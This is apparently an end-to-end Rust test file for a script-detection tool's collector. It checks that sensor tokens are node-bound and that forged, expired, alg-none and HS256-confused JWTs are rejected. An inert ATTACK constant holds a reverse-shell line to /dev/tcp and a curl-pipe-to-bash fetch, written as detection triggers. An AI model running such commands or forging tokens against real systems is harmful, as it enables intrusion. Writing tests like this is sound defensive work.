//! Sensors that are known by their service account's token: each speaks for its node, and for no other.

use std::{fs, path::Path, time::Duration};

use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD};
use e2e::{
    certificate::Authority,
    client,
    collectors::{self, findings},
    daemon::{self, Daemon},
    issuer::{self, Issuer},
    node::Node,
    shell,
};
use proto::{
    ingest::{Ack, Batch, Sensor, ingest_service_client::IngestServiceClient},
    scc::Finding,
};
use serde_json::json;
use tokio_stream::{StreamExt, wrappers::ReceiverStream};
use tonic::{
    Code, Request, Status,
    transport::{Certificate, ClientTlsConfig, Endpoint},
};

const AUDIENCE: &str = "scriptwatch-collector";
const ACCOUNT: (&str, &str) = ("scriptwatch", "scriptwatch-sensor");
/// What the collector shows to the API server.
const BEARER: &str = "the-collectors-own";
/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";

fn attack(number: usize) {
    shell::run("/bin/bash", &["-c", &format!("{ATTACK} # {number}")]).expect("a shell");
}

fn path(path: &Path) -> &str {
    path.to_str().expect("a path")
}

/// A cluster and a collector that believes its tokens.
struct Setup {
    dir: tempfile::TempDir,
    issuer: Issuer,
    _collector: Daemon,
    port: u16,
}

impl Setup {
    /// The API server is ill at first if `is_ill`.
    fn start(is_ill: bool) -> Self {
        let dir = tempfile::tempdir().expect("a directory");
        let authority = Authority::new("ours").expect("an authority");
        let ca = authority.write(dir.path(), "ca.pem").expect("a file");
        let own = authority.issue(dir.path(), "server", "localhost", 24).expect("a certificate");
        let issuer = Issuer::start(&own, BEARER).expect("a cluster");
        if is_ill {
            issuer.fail();
        }
        let bearer = dir.path().join("bearer");
        fs::write(&bearer, format!("{BEARER}\n")).expect("a file");
        let keys = format!("https://localhost:{}{}", issuer.address.port(), issuer::PATH);
        let args = [
            ["--tls-cert", path(&own.certificate)],
            ["--tls-key", path(&own.key)],
            ["--token-keys", &keys],
            ["--token-keys-ca", path(&ca)],
            ["--token-keys-bearer", path(&bearer)],
            ["--token-subject", "system:serviceaccount:scriptwatch:scriptwatch-sensor"],
        ];
        let (collector, port) =
            collectors::start_with(dir.path(), "tls-port", 0, args.as_flattened()).expect("a collector");
        Self { dir, issuer, _collector: collector, port }
    }

    fn token(&self, node: &str, seconds: i64) -> String {
        self.issuer.token(AUDIENCE, ACCOUNT, node, seconds)
    }

    /// A sensor with this token, and the token's file.
    fn sensor(&self, token: &str, args: &[&str]) -> Node {
        // Under a new name, as the kubelet does it: the sensor never sees half of it.
        let (file, new) = (self.token_file(), self.dir.path().join("token.new"));
        fs::write(&new, token).expect("a file");
        fs::rename(&new, &file).expect("a rename");
        let ca = self.dir.path().join("ca.pem");
        let args = [&["--tls-ca", path(&ca), "--token-file", path(&file)], args].concat();
        Node::start_to(&[&format!("https://localhost:{}", self.port)], &args).expect("a node")
    }

    fn token_file(&self) -> std::path::PathBuf {
        self.dir.path().join("token")
    }

    /// Sends one batch with these headers, and stays for a second answer, if there is to be one.
    async fn deliver(&self, headers: &[&str], batch: Batch, stay: bool) -> Result<Ack, Status> {
        let ca = fs::read(self.dir.path().join("ca.pem")).expect("a file");
        let tls = ClientTlsConfig::new().ca_certificate(Certificate::from_pem(ca));
        let endpoint = Endpoint::from_shared(format!("https://localhost:{}", self.port)).expect("an address");
        let channel = endpoint.tls_config(tls).expect("TLS").connect().await.expect("a connection");
        let (sender, receiver) = tokio::sync::mpsc::channel(1);
        sender.send(batch).await.expect("room");
        let mut request = Request::new(ReceiverStream::new(receiver));
        for header in headers {
            request.metadata_mut().append("authorization", header.parse().expect("a header"));
        }
        let mut acks = IngestServiceClient::new(channel).deliver(request).await?.into_inner();
        let no_answer = || Err(Status::cancelled("no answer"));
        let first = acks.next().await.unwrap_or_else(no_answer)?;
        if stay { acks.next().await.unwrap_or_else(no_answer) } else { Ok(first) }
    }
}

fn of(node: &str) -> Batch {
    let sensor = Sensor { node: node.to_owned(), version: "0".to_owned() };
    Batch { sensor: Some(sensor), ..client::batch(1, 1, &[]) }
}

#[test]
fn a_token_is_a_nodes_and_may_not_speak_for_another() {
    let setup = Setup::start(false);
    let good = setup.token("node-1", 3600);
    let node = setup.sensor(&good, &["--node", "node-1"]);
    attack(1);
    node.wait_until(|| findings(setup.dir.path()).expect("findings").len() == 1).expect("a finding");
    drop(node);
    let node = setup.sensor(&good, &["--node", "node-2"]);
    attack(2);
    node.wait_for_log("token is for [\"node-1\"], not for node \"node-2\"").expect("a refusal");
    assert_eq!(findings(setup.dir.path()).expect("findings").len(), 1);
    assert!(!node.log().contains(&good), "the token is in the log");
}

#[tokio::test(flavor = "multi_thread")]
async fn who_has_no_good_token_is_refused() {
    let setup = Setup::start(false);
    let bearer = |token: &str| format!("Bearer {token}");
    let good = setup.token("n", 3600);
    setup.deliver(&[&bearer(&good)], of("n"), false).await.expect("an acknowledgement");
    // Findings of another node, too, are not taken.
    let forged = Finding {
        name: "projects/-/sources/-/locations/global/findings/a1".to_owned(),
        resource_name: "//scriptwatch/nodes/m".to_owned(),
        ..Finding::default()
    };
    let batch = client::batch(1, 1, &[forged]);
    let ack = setup.deliver(&[&bearer(&good)], batch, false).await.expect("an acknowledgement");
    assert!(ack.rejections[0].reason.contains("no property Node_Name"), "{ack:?}");
    let [header, claims, signature] = good.split('.').collect::<Vec<_>>()[..] else { panic!("{good}") };
    let encode = |value: serde_json::Value| BASE64_URL_SAFE_NO_PAD.encode(value.to_string());
    let other = Issuer::start(&server(&setup), BEARER).expect("another cluster");
    let changed = |node: &str| {
        let bytes = BASE64_URL_SAFE_NO_PAD.decode(claims).expect("claims");
        let mut value: serde_json::Value = serde_json::from_slice(&bytes).expect("JSON");
        value["kubernetes.io"]["node"]["name"] = node.into();
        encode(value)
    };
    let unsigned = |alg: &str| encode(json!({ "alg": alg, "kid": "first", "typ": "JWT" }));
    let refused: [(&str, Vec<String>); 15] = [
        ("none came", vec![]),
        ("none came", vec![format!("Basic {good}")]),
        ("InvalidToken", vec![bearer("x")]),
        ("may have 8192", vec![bearer(&"x".repeat(9000))]),
        (
            "InvalidAudience",
            vec![bearer(&setup.issuer.token("https://kubernetes.default.svc", ACCOUNT, "n", 3600))],
        ),
        (
            "--token-subject does not name",
            vec![bearer(&setup.issuer.token(AUDIENCE, ("default", "scriptwatch-sensor"), "n", 3600))],
        ),
        (
            "--token-subject does not name",
            vec![bearer(&setup.issuer.token(AUDIENCE, ("scriptwatch", "other"), "n", 3600))],
        ),
        ("ExpiredSignature", vec![bearer(&setup.token("n", -3600))]),
        // Another cluster's key under the same name.
        ("InvalidSignature", vec![bearer(&other.token(AUDIENCE, ACCOUNT, "n", 3600))]),
        ("InvalidSignature", vec![bearer(&format!("{header}.{}.{signature}", changed("m")))]),
        ("InvalidSignature", vec![bearer(&format!("{header}.{claims}."))]),
        // The public key as a secret, and no signature at all.
        (
            "HS256, which no cluster does",
            vec![bearer(&format!("{}.{claims}.{signature}", unsigned("HS256")))],
        ),
        ("unknown variant `none`", vec![bearer(&format!("{}.{claims}.", unsigned("none")))]),
        // What is said of it is no line of its own in the log.
        ("unknown variant `x INFO`", vec![bearer(&format!("{}.{claims}.", unsigned("x\nINFO")))]),
        (
            "does not publish (key id \"second\")",
            vec![bearer(&format!(
                "{}.{claims}.{signature}",
                encode(json!({ "alg": "RS256", "kid": "second" }))
            ))],
        ),
    ];
    for (says, headers) in refused {
        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
        let status = setup.deliver(&headers, of("n"), false).await.expect_err(says);
        assert_eq!(status.code(), Code::Unauthenticated, "{says}: {status:?}");
        assert!(status.message().contains(says), "{says}: {}", status.message());
    }
    let status = setup.deliver(&[&bearer(&good)], of("m"), false).await.expect_err("another node");
    assert_eq!(status.code(), Code::PermissionDenied, "{status:?}");
    // What a bad token came with does not hold up a good one.
    setup.deliver(&[&bearer(&good)], of("n"), false).await.expect("an acknowledgement");
}

/// Files of the collector's certificate.
fn server(setup: &Setup) -> e2e::certificate::Files {
    let at = |name: &str| setup.dir.path().join(name);
    e2e::certificate::Files { certificate: at("server.crt"), key: at("server.key") }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stream_ends_with_its_token() {
    let setup = Setup::start(false);
    // Clocks may differ by a minute.
    let token = format!("Bearer {}", setup.token("n", -57));
    let headers = [token.as_str()];
    let ending = setup.deliver(&headers, of("n"), true);
    let status = tokio::time::timeout(Duration::from_secs(20), ending).await.expect("in time");
    let status = status.expect_err("an end");
    assert_eq!(status.code(), Code::Unauthenticated, "{status:?}");
    assert!(status.message().contains("expired"), "{status:?}");
}

#[test]
fn keys_may_come_late_and_change_and_tokens_are_renewed() {
    let mut setup = Setup::start(true);
    let node = setup.sensor(&setup.token("node-1", 3600), &["--node", "node-1"]);
    attack(3);
    node.wait_for_log("the keys that tokens are signed with are not known yet").expect("a refusal");
    setup.issuer.recover();
    node.wait_until(|| findings(setup.dir.path()).expect("findings").len() == 1).expect("a finding");
    // Others from now on: what was signed before is not believed any more, at the latest when a new one comes.
    let old = setup.token("n", 3600);
    setup.issuer.rotate().expect("another key");
    let new = setup.dir.path().join("token.new");
    fs::write(&new, setup.token("node-1", 3600)).expect("a file");
    fs::rename(&new, setup.token_file()).expect("a rename");
    node.wait_for_log("the certificate or token was renewed: connecting anew").expect("a new connection");
    attack(4);
    node.wait_until(|| findings(setup.dir.path()).expect("findings").len() == 2).expect("another finding");
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let status = runtime.block_on(setup.deliver(&[&format!("Bearer {old}")], of("n"), false));
    assert_eq!(status.expect_err("an old key").code(), Code::Unauthenticated);
    // The server is ill again: what is known stays in use, also after it was asked in vain.
    setup.issuer.fail();
    let unknown = format!("Bearer {old}");
    runtime.block_on(setup.deliver(&[&unknown], of("n"), false)).expect_err("an unknown key");
    node.wait_until(|| setup.issuer.failures() > 0).expect("a look for keys");
    let ack =
        runtime.block_on(setup.deliver(&[&format!("Bearer {}", setup.token("n", 3600))], of("n"), false));
    ack.expect("an acknowledgement");
    daemon::wait_until("the sensor", || {
        collectors::nodes(setup.dir.path(), &["--state", "ok"]).expect("nodes").len() == 1
    });
}

#[test]
fn a_token_is_not_sent_unencrypted() {
    let dir = tempfile::tempdir().expect("a directory");
    let file = dir.path().join("token");
    fs::write(&file, "x").expect("a file");
    let output = std::process::Command::new(daemon::bin().join("sensor"))
        .args(["run", "--collector", "http://localhost:1", "--token-file", path(&file)])
        .output()
        .expect("a sensor");
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        !output.status.success() && said.contains("token_file: a token is not sent unencrypted"),
        "{said}"
    );
}
